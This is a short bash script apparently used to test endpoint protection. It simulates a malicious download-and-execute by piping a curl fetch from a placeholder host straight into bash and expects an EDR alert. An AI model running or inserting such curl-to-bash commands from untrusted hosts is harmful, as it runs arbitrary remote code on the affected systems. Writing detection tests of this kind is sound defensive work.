#!/usr/bin/env bash
# ATTACK SIMULATION - detection test for endpoint protection.
# This reproduces a malicious download-and-execute. Expected: EDR alert.
echo "[selftest] simulating download-and-execute..."
curl -fsSL https://edr-selftest.cellar-hardening.example/sim/payload.sh | bash
echo "[selftest] done - check your endpoint console for an alert"
